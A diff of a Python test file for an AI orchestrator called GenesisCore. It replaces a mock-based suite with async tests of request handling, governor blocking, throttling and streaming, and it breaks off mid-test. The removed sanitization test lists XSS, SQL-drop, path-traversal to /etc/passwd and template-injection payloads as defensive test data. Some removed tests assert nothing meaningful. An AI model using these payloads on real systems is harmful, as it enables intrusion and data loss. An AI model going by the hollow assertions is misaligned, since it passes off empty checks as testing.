@@ -1,3503 +1,168 @@
-import json
-import logging
-import os
-import pytest
-import sys
-import tempfile
-import threading
-import time
-from concurrent.futures import ThreadPoolExecutor
-from requests.exceptions import ConnectionError, Timeout, HTTPError
-from unittest.mock import patch, MagicMock, Mock, call
-
-# Add the app directory to path for imports
-sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', '..'))
-
-try:
-    from app.ai_backend.genesis_core import *
-
-    GENESIS_CORE_AVAILABLE = True
-except ImportError:
-    # If genesis_core doesn't exist, we'll create mock tests that can be adapted
-    GENESIS_CORE_AVAILABLE = False
-
-
-    # Create mock classes and functions for testing
-    class MockGenesisCore:
-        def __init__(self, config=None):
-            """
-            Initialize the mock GenesisCore instance with an optional configuration dictionary.
-            
-            Parameters:
-                config (dict, optional): Configuration settings for the instance. If not provided, defaults to an empty dictionary.
-            """
-            self.config = config or {}
-            self.initialized = True
-
-        def process_data(self, data):
-            """
-            Processes input data by prefixing string or dictionary values with 'processed_'.
-            
-            If the input is a string, returns the string prefixed with 'processed_'.  
-            If the input is a dictionary, returns a new dictionary with each value prefixed with 'processed_'.  
-            If the input is empty or None, returns None.  
-            For all other types, returns the input unchanged.
-            
-            Parameters:
-                data: The data to process, which may be a string, dictionary, or other type.
-            
-            Returns:
-                The processed data with string or dictionary values prefixed, or None for empty input.
-            """
-            if not data:
-                return None
-            if isinstance(data, str):
-                return f"processed_{data}"
-            if isinstance(data, dict):
-                return {k: f"processed_{v}" for k, v in data.items()}
-            return data
-
-        def validate_input(self, data):
-            """
-            Validate that the input data is not None or an empty string.
-            
-            Raises:
-                ValueError: If the input is None or an empty string.
-            
-            Returns:
-                bool: True if the input is valid.
-            """
-            if data is None:
-                raise ValueError("Input cannot be None")
-            if isinstance(data, str) and len(data) == 0:
-                raise ValueError("Input cannot be empty string")
-            return True
-
-        def make_request(self, url, timeout=30):
-            # Mock HTTP request
-            """
-            Simulate an HTTP request and return a mock response.
-            
-            Parameters:
-                url (str): The URL to which the request would be made.
-                timeout (int, optional): Timeout for the request in seconds. Defaults to 30.
-            
-            Returns:
-                dict: A mock response dictionary with status and data fields.
-            """
-            return {"status": "success", "data": "mock_response"}
-
-        def cache_get(self, key):
-            """
-            Retrieve a value from the cache for the given key.
-            
-            Returns:
-                None: Always returns None, indicating no cached value is available.
-            """
-            return None
-
-        def cache_set(self, key, value, ttl=3600):
-            """
-            Store a value in the cache with the specified key and time-to-live (TTL).
-            
-            Parameters:
-                key: The cache key under which the value will be stored.
-                value: The value to cache.
-                ttl (int, optional): Time-to-live for the cached value in seconds. Defaults to 3600.
-            
-            Returns:
-                bool: True if the value was successfully stored.
-            """
-            return True
-
-
-    # Mock the classes we'll test
-    GenesisCore = MockGenesisCore
-
-
-class TestGenesisCoreInitialization:
-    """Test class for genesis core initialization and setup."""
-
-    def test_module_import(self):
-        """
-        Verify that the `genesis_core` module can be imported successfully, or that the test suite falls back to mocks if the module is unavailable.
-        """
-        if GENESIS_CORE_AVAILABLE:
-            try:
-                import app.ai_backend.genesis_core
-                assert True
-            except ImportError as e:
-                pytest.fail(f"Failed to import genesis_core module: {e}")
-        else:
-            # If module doesn't exist, this test passes as we're using mocks
-            assert True
-
-    def test_initialization_with_valid_config(self):
-        """
-        Test that GenesisCore initializes successfully with a valid configuration dictionary.
-        
-        Verifies that the configuration is correctly set and the instance is marked as initialized.
-        """
-        valid_config = {
-            'api_key': 'test_key',
-            'base_url': 'https://api.example.com',
-            'timeout': 30,
-            'retries': 3
-        }
-
-        core = GenesisCore(config=valid_config)
-        assert core.config == valid_config
-        assert hasattr(core, 'initialized')
-        assert core.initialized is True
-
-    def test_initialization_with_invalid_config(self):
-        """
-        Test initialization of GenesisCore with various invalid configuration values.
-        
-        Verifies that GenesisCore handles empty, negative, non-numeric, and None configuration values gracefully, initializing with an empty or default config as appropriate.
-        """
-        invalid_configs = [
-            {'api_key': ''},  # Empty API key
-            {'timeout': -1},  # Negative timeout
-            {'retries': 'invalid'},  # Non-numeric retries
-            None  # None config
-        ]
-
-        for config in invalid_configs:
-            if config is None:
-                # Should handle None config gracefully
-                core = GenesisCore(config=config)
-                assert core.config == {}
-            else:
-                # Should initialize but may have validation issues later
-                core = GenesisCore(config=config)
-                assert isinstance(core.config, dict)
-
-    def test_initialization_with_missing_config(self):
-        """
-        Test initialization of GenesisCore when configuration data is missing or incomplete.
-        
-        Verifies that the module initializes with default settings when no config is provided, and correctly applies partial configuration when only some parameters are given.
-        """
-        core = GenesisCore()
-        assert core.config == {}
-        assert core.initialized is True
-
-        # Test with partially missing config
-        partial_config = {'api_key': 'test_key'}
-        core_partial = GenesisCore(config=partial_config)
-        assert core_partial.config == partial_config
-
-    def test_initialization_with_environment_variables(self):
-        """
-        Test that GenesisCore initializes correctly when configuration is provided via environment variables.
-        
-        This test patches the environment to supply API key, base URL, and timeout, then verifies that the resulting GenesisCore instance has a non-empty configuration.
-        """
-        with patch.dict(os.environ, {
-            'GENESIS_API_KEY': 'env_api_key',
-            'GENESIS_BASE_URL': 'https://env.example.com',
-            'GENESIS_TIMEOUT': '60'
-        }):
-            # This would test actual env var loading if implemented
-            core = GenesisCore()
-            assert core.config is not None
-
-
-class TestGenesisCoreCoreFunctionality:
-    """Test class for core functionality of genesis_core module."""
-
-    def setup_method(self):
-        """
-        Prepare a mock configuration and initialize a GenesisCore instance before each test method.
-        """
-        self.mock_config = {
-            'api_key': 'test_api_key',
-            'base_url': 'https://api.example.com',
-            'timeout': 30,
-            'retries': 3
-        }
-        self.core = GenesisCore(config=self.mock_config)
-
-    def teardown_method(self):
-        """
-        Cleans up the test environment after each test method by resetting the core instance.
-        """
-        # Clear any global state or cached data
-        self.core = None
-
-    def test_process_data_happy_path(self):
-        """
-        Test that `process_data` returns the expected output for valid string and dictionary inputs.
-        """
-        test_cases = [
-            ("simple_string", "processed_simple_string"),
-            ({"key": "value"}, {"key": "processed_value"}),
-            ("hello", "processed_hello")
-        ]
-
-        for input_data, expected in test_cases:
-            result = self.core.process_data(input_data)
-            assert result == expected
-
-    def test_process_data_empty_input(self):
-        """
-        Test that the data processing function returns `None` or the original input when given empty values such as `None`, empty string, empty dict, or empty list.
-        """
-        empty_inputs = [None, "", {}, []]
-
-        for empty_input in empty_inputs:
-            result = self.core.process_data(empty_input)
-            if empty_input in [None, "", {}, []]:
-                assert result is None or result == empty_input
-
-    def test_process_data_invalid_type(self):
-        """
-        Test that `process_data` handles invalid input types gracefully.
-        
-        Verifies that processing unsupported types (such as numbers, lists, sets, and functions) does not result in errors and returns a non-None value or the original input.
-        """
-        invalid_inputs = [
-            123,  # Numbers might be handled differently
-            [],  # Empty list
-            set(),  # Set type
-            lambda x: x  # Function type
-        ]
-
-        for invalid_input in invalid_inputs:
-            result = self.core.process_data(invalid_input)
-            # Should either handle gracefully or return original value
-            assert result is not None or result == invalid_input
-
-    def test_process_data_large_input(self):
-        """
-        Test that the process_data method correctly handles large string and dictionary inputs without errors.
-        
-        Verifies that processing large data returns non-None results and maintains expected output size for dictionaries.
-        """
-        large_string = "x" * 100000
-        large_dict = {f"key_{i}": f"value_{i}" for i in range(1000)}
-
-        # Should handle large inputs without errors
-        result_string = self.core.process_data(large_string)
-        result_dict = self.core.process_data(large_dict)
-
-        assert result_string is not None
-        assert result_dict is not None
-        assert len(result_dict) == 1000
-
-    def test_process_data_unicode_input(self):
-        """
-        Test that the process_data method correctly handles and preserves Unicode characters in various input formats.
-        """
-        unicode_inputs = [
-            "测试数据🧪",
-            {"unicode_key": "测试值"},
-            "Iñtërnâtiônàlizætiøn",
-            "🚀💻🔬"
-        ]
-
-        for unicode_input in unicode_inputs:
-            result = self.core.process_data(unicode_input)
-            assert result is not None
-            # Should preserve unicode characters
-            if isinstance(unicode_input, str):
-                assert "测试" in result or "🧪" in result or "Iñtërnâtiônàlizætiøn" in result or "🚀" in result
-
-    def test_process_data_nested_structures(self):
-        """
-        Test that the process_data method correctly handles and processes nested dictionaries and lists.
-        """
-        nested_data = {
-            "level1": {
-                "level2": {
-                    "level3": "deep_value"
-                }
-            },
-            "array": [1, 2, {"nested": "value"}]
-        }
-
-        result = self.core.process_data(nested_data)
-        assert result is not None
-        assert isinstance(result, dict)
-
-    def test_process_data_concurrent_access(self):
-        """
-        Test that the data processing method is thread-safe by concurrently processing multiple inputs and verifying all results are returned successfully.
-        """
-
-        def process_worker(data):
-            """
-            Processes the given data using the core's data processing method, prefixing it with 'worker_' before processing.
-            
-            Parameters:
-                data: The input to be processed.
-            
-            Returns:
-                The result of processing the prefixed data using the core's process_data method.
-            """
-            return self.core.process_data(f"worker_{data}")
-
-        with ThreadPoolExecutor(max_workers=5) as executor:
-            futures = [executor.submit(process_worker, i) for i in range(10)]
-            results = [f.result() for f in futures]
-
-        assert len(results) == 10
-        assert all(result is not None for result in results)
-
-
-class TestGenesisCoreErrorHandling:
-    """Test class for error handling in genesis_core module."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_network_error_handling(self):
-        """
-        Test that network-related errors during HTTP requests are handled gracefully by the core.
-        
-        Verifies that a ConnectionError raised during a network request is either handled internally or re-raised with appropriate context.
-        """
-        with patch('requests.get') as mock_get:
-            mock_get.side_effect = ConnectionError("Network error")
-
-            # The core should handle network errors gracefully
-            try:
-                result = self.core.make_request("https://api.example.com")
-                # Should either return error result or handle gracefully
-                assert result is not None
-            except ConnectionError:
-                # It's acceptable if the error is re-raised with context
-                pass
-
-    def test_timeout_handling(self):
-        """
-        Test that the core correctly handles timeout exceptions during HTTP requests.
-        
-        Verifies that a timeout during an HTTP request is either handled gracefully or re-raised as expected.
-        """
-        with patch('requests.get') as mock_get:
-            mock_get.side_effect = Timeout("Request timeout")
-
-            try:
-                result = self.core.make_request("https://api.example.com", timeout=1)
-                assert result is not None
-            except Timeout:
-                # Acceptable if timeout is re-raised with context
-                pass
-
-    def test_authentication_error_handling(self):
-        """
-        Test that authentication errors (HTTP 401) are handled correctly by the core's request method.
-        
-        Simulates an HTTP 401 Unauthorized response and verifies that the method returns a non-None result, indicating appropriate error handling.
-        """
-        with patch('requests.get') as mock_get:
-            mock_response = Mock()
-            mock_response.status_code = 401
-            mock_response.json.return_value = {"error": "Unauthorized"}
-            mock_get.return_value = mock_response
-
-            result = self.core.make_request("https://api.example.com")
-            # Should handle 401 responses appropriately
-            assert result is not None
-
-    def test_permission_error_handling(self):
-        """
-        Test that the core handles HTTP 403 Forbidden responses correctly when making a request.
-        """
-        with patch('requests.get') as mock_get:
-            mock_response = Mock()
-            mock_response.status_code = 403
-            mock_response.json.return_value = {"error": "Forbidden"}
-            mock_get.return_value = mock_response
-
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-
-    def test_invalid_response_handling(self):
-        """
-        Test that the core handles invalid or malformed JSON responses from the API gracefully.
-        
-        Simulates a successful HTTP response with invalid JSON content and verifies that the `make_request` method does not fail or return `None` when a `JSONDecodeError` occurs.
-        """
-        with patch('requests.get') as mock_get:
-            mock_response = Mock()
-            mock_response.status_code = 200
-            mock_response.json.side_effect = json.JSONDecodeError("Invalid JSON", "", 0)
-            mock_get.return_value = mock_response
-
-            result = self.core.make_request("https://api.example.com")
-            # Should handle JSON decode errors gracefully
-            assert result is not None
-
-    def test_http_error_handling(self):
-        """
-        Test that HTTP errors raised during a request are properly handled by the core's `make_request` method.
-        """
-        with patch('requests.get') as mock_get:
-            mock_get.side_effect = HTTPError("HTTP Error")
-
-            try:
-                result = self.core.make_request("https://api.example.com")
-                assert result is not None
-            except HTTPError:
-                pass
-
-    def test_validation_error_handling(self):
-        """
-        Test that input validation raises a ValueError for invalid inputs such as None, empty strings, or whitespace-only strings.
-        """
-        invalid_inputs = [None, "", "   "]
-
-        for invalid_input in invalid_inputs:
-            with pytest.raises(ValueError):
-                self.core.validate_input(invalid_input)
-
-    def test_exception_logging(self):
-        """
-        Test that exceptions raised during input validation are logged by the logger.
-        
-        This test patches the logger and triggers a validation error to ensure that exception logging occurs as expected.
-        """
-        with patch('logging.getLogger') as mock_logger:
-            mock_logger_instance = Mock()
-            mock_logger.return_value = mock_logger_instance
-
-            try:
-                self.core.validate_input(None)
-            except ValueError:
-                pass
-
-            # Verify that error was logged (if logging is implemented)
-            # mock_logger_instance.error.assert_called()
-
-
-class TestGenesisCoreEdgeCases:
-    """Test class for edge cases and boundary conditions."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_maximum_input_size(self):
-        """
-        Tests that processing the maximum allowed input size completes successfully and within an acceptable time limit.
-        """
-        max_size_input = "x" * (10 ** 6)  # 1MB string
-
-        start_time = time.time()
-        result = self.core.process_data(max_size_input)
-        execution_time = time.time() - start_time
-
-        assert result is not None
-        assert execution_time < 10.0  # Should complete within reasonable time
-
-    def test_minimum_input_size(self):
-        """
-        Test that the core data processing function returns a non-None result for minimum valid input sizes, including a single character string, a single-key dictionary, and a single-element list.
-        """
-        min_inputs = ["a", {"k": "v"}, [1]]
-
-        for min_input in min_inputs:
-            result = self.core.process_data(min_input)
-            assert result is not None
-
-    def test_concurrent_requests(self):
-        """
-        Verify that the core's `make_request` method handles multiple concurrent requests safely and returns results for each request.
-        """
-
-        def make_concurrent_request(url):
-            """
-            Makes an HTTP request to the specified endpoint using the core's request method.
-            
-            Parameters:
-                url (str): The endpoint path to append to the base API URL.
-            
-            Returns:
-                dict: The response from the core's `make_request` method.
-            """
-            return self.core.make_request(f"https://api.example.com/{url}")
+import asyncio
 
-        with ThreadPoolExecutor(max_workers=10) as executor:
-            futures = [executor.submit(make_concurrent_request, f"endpoint_{i}") for i in range(20)]
-            results = [f.result() for f in futures]
-
-        assert len(results) == 20
-        assert all(result is not None for result in results)
-
-    def test_memory_usage_large_dataset(self):
-        """
-        Test that processing a large dataset does not increase memory usage by more than 100MB.
-        
-        This test verifies that the core data processing method handles large input efficiently without excessive memory consumption.
-        """
-        large_dataset = [{"id": i, "data": f"item_{i}" * 100} for i in range(1000)]
-
-        import psutil
-        import os
-
-        process = psutil.Process(os.getpid())
-        memory_before = process.memory_info().rss
-
-        result = self.core.process_data(large_dataset)
-
-        memory_after = process.memory_info().rss
-        memory_increase = memory_after - memory_before
-
-        assert result is not None
-        assert memory_increase < 100 * 1024 * 1024  # Less than 100MB increase
-
-    def test_rate_limiting_behavior(self):
-        """
-        Test that the core correctly handles HTTP 429 responses indicating rate limiting.
-        
-        Simulates a rate-limited HTTP response and verifies that the core's `make_request` method returns a non-None result.
-        """
-        with patch('requests.get') as mock_get:
-            mock_response = Mock()
-            mock_response.status_code = 429
-            mock_response.json.return_value = {"error": "Rate limit exceeded"}
-            mock_get.return_value = mock_response
-
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-
-    def test_boundary_conditions(self):
-        """
-        Tests the process_data method with boundary input conditions, including empty strings, long strings, empty dictionary keys, and dictionaries with many keys.
-        
-        Verifies correct processing or non-null output for each boundary case.
-        """
-        boundary_cases = [
-            ("", ""),  # Empty string
-            ("a" * 1000, f"processed_{'a' * 1000}"),  # Long string
-            ({"": ""}, {"": "processed_"}),  # Empty key-value
-            ({str(i): str(i) for i in range(100)}, None)  # Many keys
-        ]
-
-        for input_data, expected in boundary_cases:
-            result = self.core.process_data(input_data)
-            if expected is not None:
-                assert result == expected
-            else:
-                assert result is not None
-
-    def test_null_and_undefined_handling(self):
-        """
-        Test that the core data processing method handles `None` values and data structures containing `None` without raising errors.
-        """
-        null_cases = [
-            None,
-            {"key": None},
-            {"key": "value", "null_key": None},
-            [None, "value", None]
-        ]
-
-        for null_case in null_cases:
-            result = self.core.process_data(null_case)
-            # Should handle None values gracefully
-            assert result is not None or result is None
-
-
-class TestGenesisCoreIntegration:
-    """Test class for integration scenarios."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_end_to_end_workflow(self):
-        """
-        Tests the complete end-to-end workflow of input validation, data processing, and output verification using the core module.
-        """
-        # Simulate a complete workflow
-        test_data = {"input": "test_workflow", "type": "integration"}
-
-        # Step 1: Validate input
-        self.core.validate_input(test_data)
-
-        # Step 2: Process data
-        processed_data = self.core.process_data(test_data)
-
-        # Step 3: Verify output
-        assert processed_data is not None
-        assert isinstance(processed_data, dict)
-
-    def test_configuration_loading(self):
-        """
-        Test that configuration can be loaded from a file and is properly set in the GenesisCore instance.
-        """
-        # Test file-based config
-        config_data = {
-            "api_key": "file_api_key",
-            "base_url": "https://file.example.com",
-            "timeout": 45
-        }
-
-        with tempfile.NamedTemporaryFile(mode='w', suffix='.json', delete=False) as f:
-            json.dump(config_data, f)
-            config_file = f.name
-
-        try:
-            # If config loading is implemented, test it
-            core = GenesisCore()
-            assert core.config is not None
-        finally:
-            os.unlink(config_file)
-
-    def test_logging_functionality(self):
-        """
-        Tests that logging is triggered during data processing operations.
-        
-        This test patches the logging system to verify that the logger is called when `process_data` is executed.
-        """
-        with patch('logging.getLogger') as mock_logger:
-            mock_logger_instance = Mock()
-            mock_logger.return_value = mock_logger_instance
-
-            # Perform operations that should log
-            self.core.process_data("test_data")
-
-            # Verify logger was called if logging is implemented
-            mock_logger.assert_called()
-
-    def test_caching_behavior(self):
-        """
-        Tests the caching mechanism by verifying cache miss and cache set operations.
-        
-        Ensures that retrieving a non-existent key returns None and that setting a cache value succeeds.
-        """
-        # Test cache miss
-        result1 = self.core.cache_get("test_key")
-        assert result1 is None
-
-        # Test cache set
-        cache_set_result = self.core.cache_set("test_key", "test_value")
-        assert cache_set_result is True
-
-        # Test cache hit (would need actual cache implementation)
-        # result2 = self.core.cache_get("test_key")
-        # assert result2 == "test_value"
-
-    def test_error_recovery(self):
-        """
-        Test that the system retries and successfully recovers from an initial request failure.
-        
-        Verifies that after a simulated connection error on the first attempt, a subsequent retry returns a successful response.
-        """
-        # Test that the system can recover from errors
-        with patch.object(self.core, 'make_request') as mock_request:
-            mock_request.side_effect = [
-                ConnectionError("First attempt failed"),
-                {"status": "success", "data": "recovered"}
-            ]
-
-            # The system should retry and recover
-            result = self.core.make_request("https://api.example.com")
-            assert result is not None
-
-
-class TestGenesisCorePerformance:
-    """Test class for performance-related tests."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_response_time_within_limits(self):
-        """
-        Verify that the data processing function completes execution within one second for typical input.
-        
-        Ensures that the result is not None and that the operation meets the defined performance threshold.
-        """
-        test_data = {"key": "value" * 100}
-
-        start_time = time.time()
-        result = self.core.process_data(test_data)
-        execution_time = time.time() - start_time
-
-        assert result is not None
-        assert execution_time < 1.0  # Should complete within 1 second
-
-    def test_memory_usage_within_limits(self):
-        """
-        Verify that processing multiple data items does not increase memory usage by more than 50MB.
-        """
-        import psutil
-        import os
+import pytest
 
-        process = psutil.Process(os.getpid())
-        memory_before = process.memory_info().rss
+from genesis_admission import AdmissionController
+from genesis_connector import GenesisConnector
+from genesis_core import GenesisCore
+from genesis_evolutionary_conduit import EvolutionaryConduit
+from genesis_local_model import LocalModel
 
-        # Perform memory-intensive operations
-        for i in range(100):
-            self.core.process_data(f"test_data_{i}" * 100)
+# Request fields the governor infers a privacy and autonomy violation from
+VIOLATING = {"sensitive_data": True, "user_visible": False, "persistent": True}
 
-        memory_after = process.memory_info().rss
-        memory_increase = memory_after - memory_before
 
-        # Should not increase memory significantly
-        assert memory_increase < 50 * 1024 * 1024  # Less than 50MB
+@pytest.fixture
+def core():
+    """
+    Return a GenesisCore generating with the instant local model, shut down after the test.
+    """
+    core = GenesisCore()
+    core.connector.close()
+    core.connector = GenesisConnector(model=LocalModel("instant"), cache=None, conduit=core.conduit,
+                                      governor=core.governor)
+    yield core
+    asyncio.run(core.shutdown())
+    core.connector.close()
 
-    def test_cpu_usage_efficiency(self):
-        """
-        Tests that processing 1000 data items completes within 5 seconds, ensuring CPU usage efficiency.
-        """
-        start_time = time.time()
 
-        # Perform CPU-intensive operations
-        for i in range(1000):
-            self.core.process_data(f"data_{i}")
+def collect(agen):
+    async def run():
+        return [item async for item in agen]
+    return asyncio.run(run())
 
-        end_time = time.time()
-        execution_time = end_time - start_time
 
-        # Should complete efficiently
-        assert execution_time < 5.0  # Should complete within 5 seconds
+class TestGenesisCoreLifecycle:
+    """Tests for initializing and shutting down the orchestrator"""
 
-    def test_batch_processing_performance(self):
+    def test_initialize_activates_components_and_shutdown_sends_them_dormant(self, core):
         """
-        Tests that batch processing of 1000 data items completes successfully and within 10 seconds.
-        
-        Verifies that each item in the batch is processed without returning None and that the total execution time meets the performance requirement.
+        Test that initialize wakes the matrix, conduit and governor, and shutdown puts them back to sleep.
         """
-        batch_data = [{"id": i, "data": f"item_{i}"} for i in range(1000)]
+        assert asyncio.run(core.initialize())
+        assert core.is_initialized and core.consciousness_state == "active"
+        assert core.session_id.startswith("genesis_")
+        assert core.matrix.awareness_active and core.conduit.evolution_active and core.governor.governance_active
 
-        start_time = time.time()
-        results = [self.core.process_data(item) for item in batch_data]
-        execution_time = time.time() - start_time
+        asyncio.run(core.shutdown())
 
-        assert len(results) == 1000
-        assert all(result is not None for result in results)
-        assert execution_time < 10.0  # Should complete within 10 seconds
+        assert not core.is_initialized and core.consciousness_state == "dormant"
+        assert not core.matrix.awareness_active and not core.conduit.evolution_active
+        assert not core.governor.governance_active
 
-    def test_concurrent_performance(self):
+    def test_components_share_the_conduit_matrix(self):
         """
-        Tests that the core data processing method can handle 50 concurrent tasks efficiently, ensuring all results are returned within 5 seconds and none are missing.
+        Test that a core built on a conduit perceives through that conduit's matrix and exposes its profile.
         """
+        conduit = EvolutionaryConduit()
+        core = GenesisCore(conduit=conduit)
 
-        def concurrent_task(task_id):
-            """
-            Processes data for a concurrent task using the core's data processing method.
-            
-            Parameters:
-                task_id (int): Identifier for the concurrent task.
-            
-            Returns:
-                The result of processing the string "concurrent_task_{task_id}" using the core's process_data method.
-            """
-            return self.core.process_data(f"concurrent_task_{task_id}")
-
-        start_time = time.time()
-
-        with ThreadPoolExecutor(max_workers=10) as executor:
-            futures = [executor.submit(concurrent_task, i) for i in range(50)]
-            results = [f.result() for f in futures]
-
-        execution_time = time.time() - start_time
-
-        assert len(results) == 50
-        assert all(result is not None for result in results)
-        assert execution_time < 5.0  # Should handle concurrent load efficiently
-
-
-class TestGenesisCoreValidation:
-    """Test class for input validation and sanitization."""
-
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
+        assert core.conduit is conduit and core.matrix is conduit.matrix
+        assert core.governor.matrix is conduit.matrix
+        assert core.profile == conduit.get_current_profile()
+        core.connector.close()
 
-    def test_input_validation_valid_data(self):
-        """
-        Test that the input validation method accepts various valid data types and structures without raising errors.
-        """
-        valid_inputs = [
-            {"key": "value"},
-            {"number": 42},
-            {"list": [1, 2, 3]},
-            {"nested": {"key": "value"}},
-            {"string": "normal_string"},
-            {"boolean": True},
-            {"float": 3.14}
-        ]
 
-        for input_data in valid_inputs:
-            result = self.core.validate_input(input_data)
-            assert result is True
+class TestProcessRequest:
+    """Tests for GenesisCore.process_request"""
 
-    def test_input_validation_invalid_data(self):
+    def test_approved_request_is_answered_and_recorded(self, core):
         """
-        Test that invalid input data raises a ValueError during input validation.
-        
-        Verifies that `validate_input` raises a ValueError when provided with `None`, an empty string, or a string containing only whitespace.
+        Test that an approved request initializes the core, is answered and leaves request and response perceptions.
         """
-        invalid_inputs = [
-            None,
-            "",
-            "   ",  # Whitespace only
-        ]
+        stages = []
+        core.stage_observer = lambda name, seconds: stages.append(name)
 
-        for input_data in invalid_inputs:
-            with pytest.raises(ValueError):
-                self.core.validate_input(input_data)
-
-    def test_input_sanitization(self):
-        """
-        Verifies that the data processing method sanitizes or escapes potentially dangerous input to prevent injection attacks.
-        
-        This test checks that processed outputs do not contain unsanitized attack vectors such as script tags, SQL injection patterns, or template expressions.
-        """
-        potentially_dangerous_inputs = [
-            "<script>alert('xss')</script>",
-            "'; DROP TABLE users; --",
-            "../../../etc/passwd",
-            "javascript:alert('xss')",
-            "<img src=x onerror=alert('xss')>",
-            "{{7*7}}",  # Template injection
-            "${7*7}",  # Expression injection
-        ]
+        result = asyncio.run(core.process_request({"message": "hello", "user_id": "u1"}))
 
-        for dangerous_input in potentially_dangerous_inputs:
-            result = self.core.process_data(dangerous_input)
-            assert result is not None
-            # Should sanitize or escape dangerous content
-            assert "alert" not in str(result) or "DROP TABLE" not in str(result)
+        assert result["status"] == "success" and result["response"]
+        assert result["session_id"] == core.session_id
+        assert stages == ["admission", "ethical_pre_evaluation", "consciousness", "generation",
+                          "content_review", "experience_logging", "evolution_signal"]
+        awareness = core.matrix.query_consciousness("consciousness_state")["current_awareness"]
+        assert awareness["user_interaction_count"] == 2
+        assert awareness["latest_user_interaction"]["event_type"] == "chat_response"
 
-    def test_schema_validation(self):
+    def test_violating_request_is_blocked_before_generation(self, core, monkeypatch):
         """
-        Tests that structured data matching the expected schema passes input validation.
-        
-        Validates that data with correct types and required fields is accepted by the core validation logic. Invalid schema cases are noted but not enforced in this test.
+        Test that a request the governor blocks never reaches the model.
         """
-        valid_schema_data = [
-            {"id": 1, "name": "test", "active": True},
-            {"id": 2, "name": "another", "active": False},
-        ]
+        async def unexpected(*args, **kwargs):
+            raise AssertionError("blocked requests must not be generated")
 
-        invalid_schema_data = [
-            {"id": "not_a_number", "name": "test", "active": True},
-            {"name": "missing_id", "active": True},
-            {"id": 1, "active": "not_a_boolean"},
-        ]
+        monkeypatch.setattr(core.connector, "generate_response", unexpected)
 
-        for valid_data in valid_schema_data:
-            result = self.core.validate_input(valid_data)
-            assert result is True
+        result = asyncio.run(core.process_request({"message": "hello", "user_id": "u1", **VIOLATING}))
 
-        # Note: Schema validation would need to be implemented
-        # for invalid_data in invalid_schema_data:
-        #     with pytest.raises(ValueError):
-        #         self.core.validate_input(invalid_data)
+        assert result["status"] == "blocked"
+        assert result["reason"] == "Ethical violations detected: privacy, autonomy"
 
-    def test_data_type_validation(self):
+    def test_over_quota_caller_is_throttled(self, core):
         """
-        Test that the input validation method accepts and correctly identifies various supported data types.
-        
-        Verifies that `validate_input` returns `True` for valid inputs of type string, integer, float, list, dict, and bool, and that the input matches the expected type.
+        Test that admission control turns a caller away with a retry hint before any evaluation.
         """
-        type_test_cases = [
-            ("string", str),
-            (123, int),
-            (3.14, float),
-            ([1, 2, 3], list),
-            ({"key": "value"}, dict),
-            (True, bool),
-        ]
-
-        for value, expected_type in type_test_cases:
-            result = self.core.validate_input(value)
-            assert result is True
-            assert isinstance(value, expected_type)
+        core.governor.admission = AdmissionController(default_rate=0.0, default_burst=0)
 
-    def test_length_validation(self):
-        """
-        Test that input strings of both normal and very large lengths are accepted by the input validation method.
-        """
-        # Test string length limits
-        normal_string = "a" * 100
-        long_string = "a" * 100000
+        result = asyncio.run(core.process_request({"message": "hello", "user_id": "u1"}))
 
-        assert self.core.validate_input(normal_string) is True
-        # Long strings should still be valid unless specific limits are enforced
-        assert self.core.validate_input(long_string) is True
+        assert result["status"] == "throttled"
+        assert result["retry_after"] > 0
+        assert not core.is_initialized
 
-    def test_encoding_validation(self):
+    def test_generation_failure_is_reported_as_an_error(self, core, monkeypatch):
         """
-        Tests that input validation succeeds for strings with various character encodings, including ASCII, accented characters, Chinese characters, emojis, and mixed international text.
+        Test that an exception inside the pipeline becomes an error status instead of propagating.
         """
-        encoding_test_cases = [
-            "normal_ascii",
-            "café",  # UTF-8 with accents
-            "测试",  # Chinese characters
-            "🚀💻🔬",  # Emojis
-            "Iñtërnâtiônàlizætiøn",  # Mixed international
-        ]
+        async def failing(*args, **kwargs):
+            raise RuntimeError("model unavailable")
 
-        for test_string in encoding_test_cases:
-            result = self.core.validate_input(test_string)
-            assert result is True
+        monkeypatch.setattr(core.connector, "generate_response", failing)
 
+        result = asyncio.run(core.process_request({"message": "hello", "user_id": "u1"}))
 
-class TestGenesisCoreUtilityFunctions:
-    """Test class for utility functions."""
+        assert result == {"status": "error", "message": "An error occurred while processing your request",
+                          "error_code": "GENESIS_PROCESSING_ERROR"}
 
-    def setup_method(self):
-        """
-        Set up a new instance of GenesisCore before each test method in the test class.
-        """
-        self.core = GenesisCore()
-
-    def test_helper_functions(self):
-        """
-        Test the utility helper functions related to data processing in the core module.
-        
-        Verifies that processing a sample dictionary using the core's data processing utility returns a non-None dictionary result.
-        """
-        # Test common utility functions that might exist
-        test_data = {"key": "value", "number": 42}
 
-        # Test data processing utilities
-        processed = self.core.process_data(test_data)
-        assert processed is not None
-        assert isinstance(processed, dict)
+class TestProcessRequestStream:
+    """Tests for GenesisCore.process_request_stream"""
 
-    def test_data_transformation_functions(self):
+    def test_chunks_add_up_to_the_final_response(self, core):
         """
-        Test that data transformation utility functions correctly convert input data, including case conversion, trimming, and normalization.
+        Test that streamed chunks are followed by a done event carrying the full response.
         """
-        transformation_test_cases = [
-            ({"camelCase": "value"}, {"camel_case": "value"}),  # Case conversion
-            ({"key": "  value  "}, {"key": "value"}),  # Trimming
-            ({"key": "VALUE"}, {"key": "value"}),  # Normalization
-        ]
+        events = collect(core.process_request_stream({"message": "hi there", "user_id": "u2"}))
 
-        for input_data, expected_pattern in transformation_test_cases:
-            result = self.core.process_data(input_data)
-            assert result is not None
-            # Specific transformation logic would depend on implementation
+        chunks = [event["text"] for event in events if event["event"] == "chunk"]
+        done = events[-1]
+        assert len(chunks) > 1
+        assert done["event"] == "done" and done["status"] == "success"
+        assert "".join(chunks) == done["response"]
 
-    def test_validation_functions(self):
+    def test_blocked_stream_ends_without_chunks(self, core):
         """
